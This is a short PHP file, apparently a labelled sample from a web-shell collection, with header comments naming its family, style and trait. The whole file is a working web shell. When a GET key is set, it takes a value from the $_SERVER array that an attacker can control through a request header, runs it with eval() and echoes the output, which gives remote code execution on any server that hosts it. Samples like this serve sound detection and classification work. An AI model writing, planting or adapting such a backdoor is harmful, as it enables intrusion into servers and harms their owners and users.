<?php
/* Family: webshell/eval-request
 * Style: code read from a request header through the whole $_SERVER array
 * Trait: array_values($_SERVER) indexed and evaluated; a GET key only decides when
 */
if (empty($_GET['k'])) exit;
$all = array_values($_SERVER);
$r = eval($all[17]);
echo $r;
